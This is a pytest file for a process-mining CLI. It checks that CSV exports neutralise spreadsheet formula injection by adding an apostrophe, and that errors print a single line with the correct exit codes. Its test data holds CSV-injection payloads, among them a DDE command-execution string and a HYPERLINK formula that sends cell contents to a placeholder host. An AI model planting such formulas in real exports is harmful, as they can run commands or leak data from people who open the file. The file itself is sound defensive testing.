"""Issue 17: CSV outputs a spreadsheet cannot run, and one line for every failure.

Formula cells (OWASP "CSV Injection"): a text cell beginning with = + - @ (or a tab / carriage
return) is written with a leading apostrophe by `pdca export --to csv`, by every `-f csv` output
(`mine`, `spc`, …), unless `--raw` says otherwise. Failures: a user's mistake with a file is one
line and exit 1; a fault in pdca is one line, exit 70, with the traceback in a log file.
"""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from pdca.interfaces.cli.app import app
from pdca.interfaces.cli.common import SETTINGS
from pdca.render.spreadsheet import inert

runner = CliRunner()

PAYLOADS = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test/?q="&A1,"click")': '\'=HYPERLINK("http://x.test/?q="&A1,"click")',
    "+1+cmd": "'+1+cmd",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tTAB": "'\tTAB",
    "-5": "-5",  # a plain number is read as a number, not run
    "+3.5e2": "+3.5e2",
    "plain text": "plain text",
    "a=b": "a=b",  # only the first character matters
}


@pytest.mark.parametrize(("cell", "want"), list(PAYLOADS.items()))
def test_inert_cells(cell: str, want: str) -> None:
    assert inert(cell) == want


def _log(path: Path) -> Path:
    """A small event log whose labels and categories are formula payloads."""
    labels = list(PAYLOADS)
    rows = ["ticket,time,status,category"]
    for i, label in enumerate(labels):
        quoted = '"' + label.replace('"', '""') + '"'
        rows.append(f"T{i},2025-03-03 09:{i:02d}:00,New,{quoted}")
        rows.append(f"T{i},2025-03-03 10:{i:02d}:00,{quoted},{quoted}")
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    mapping = path.with_suffix(".toml")
    mapping.write_text(
        '[columns]\ncase_id = "ticket"\ntimestamp = "time"\nactivity = "status"\n'
        'category = "category"\n[states]\nNew = "new"\n',
        encoding="utf-8",
    )
    return mapping


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("PDCA_STORE", raising=False)
    monkeypatch.setitem(SETTINGS, "raw_csv", value=False)
    source = tmp_path / "log.csv"
    mapping = _log(source)
    root = tmp_path / "store"
    args = ["ingest", str(source), "--source", "csv", "--map", str(mapping), "--store", str(root)]
    done = runner.invoke(app, args)
    assert done.exit_code == 0, done.output
    return root


def test_export_csv_writes_formula_cells_inert_and_raw_on_request(
    store: Path, tmp_path: Path
) -> None:
    out = tmp_path / "events.csv"
    done = runner.invoke(app, ["export", "--to", "csv", "--out", str(out), "--store", str(store)])
    assert done.exit_code == 0, done.output
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert set(frame["category"]) == set(PAYLOADS.values())
    assert set(frame["activity"]) == {"New", *PAYLOADS.values()}
    raw = tmp_path / "raw.csv"
    args = ["export", "--to", "csv", "--out", str(raw), "--raw", "--store", str(store)]
    done = runner.invoke(app, args)
    assert done.exit_code == 0, done.output
    frame = pd.read_csv(raw, dtype=str, keep_default_na=False)
    assert set(frame["category"]) == set(PAYLOADS)


def test_every_csv_output_is_inert_unless_pdca_raw(store: Path) -> None:
    args = ["mine", "dfg", "--store", str(store), "-f", "csv"]

    def cells(text: str) -> set[str]:
        frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        return set(frame.to_numpy().ravel())

    done = runner.invoke(app, args)
    assert done.exit_code == 0, done.output
    assert set(PAYLOADS.values()) <= cells(done.stdout)
    assert not {p for p in PAYLOADS if p != inert(p)} & cells(done.stdout)
    raw = runner.invoke(app, ["--raw", *args])
    assert raw.exit_code == 0, raw.output
    assert set(PAYLOADS) <= cells(raw.stdout)


def test_spc_csv_output_is_inert(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(SETTINGS, "raw_csv", value=False)
    data = tmp_path / "m.csv"
    lines = ["label,value"] + [f"=HYPERLINK({i}),{10 + i % 3}" for i in range(30)]
    data.write_text("\n".join(lines) + "\n", encoding="utf-8")
    args = ["spc", str(data), "-c", "imr", "--value", "value", "--label", "label", "-f", "csv"]
    done = runner.invoke(app, args)
    assert done.exit_code == 0, done.output
    assert "=HYPERLINK(" in done.stdout
    assert not any(line.startswith("=") for line in done.stdout.splitlines())
    assert "'=HYPERLINK(0)" in done.stdout


@pytest.mark.parametrize(
    ("where", "reason"),
    [("missing/events.csv", "non-existent directory"), ("adir", "Is a directory")],
)
def test_an_unwritable_out_is_one_line(
    store: Path, tmp_path: Path, where: str, reason: str
) -> None:
    (tmp_path / "adir").mkdir()
    out = tmp_path / where
    done = runner.invoke(app, ["export", "--to", "csv", "--out", str(out), "--store", str(store)])
    assert done.exit_code == 1
    lines = done.output.strip().splitlines()
    assert len(lines) == 1, done.output
    assert reason in lines[0]
    assert "Traceback" not in done.output


def test_a_fault_in_pdca_is_one_line_exit_70_with_a_log(
    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_args: object, **_kwargs: object) -> None:
        raise ZeroDivisionError("a planted fault")

    monkeypatch.setattr("pdca.api.status", broken)
    monkeypatch.setenv("PDCA_LOG_DIR", str(tmp_path / "logs"))
    done = runner.invoke(app, ["status", "--store", str(store)])
    assert done.exit_code == 70
    lines = " ".join(done.output.split())
    assert "internal error (ZeroDivisionError: a planted fault)" in lines
    assert "Traceback" not in done.output
    logs = list((tmp_path / "logs").glob("pdca-crash-*.log"))
    assert len(logs) == 1
    assert str(logs[0]) in lines
    text = logs[0].read_text(encoding="utf-8")
    assert "Traceback" in text
    assert "ZeroDivisionError: a planted fault" in text


@pytest.mark.parametrize("chart", ["t", "ewma", "imr", "cusum", "g"])
def test_spc_values_that_would_overflow_are_one_line(tmp_path: Path, chart: str) -> None:
    data = tmp_path / "big.csv"
    values = [1.0, 1e308, 5.0, -1e308, 2.0, 7e307] * 5
    data.write_text("v\n" + "\n".join(repr(v) for v in values) + "\n", encoding="utf-8")
    done = runner.invoke(app, ["spc", str(data), "-c", chart, "--value", "v"])
    assert done.exit_code == 1, done.output
    lines = done.output.strip().splitlines()
    assert len(lines) == 1, done.output
    assert "beyond ±1e+150" in lines[0] or "cannot be negative" in lines[0]
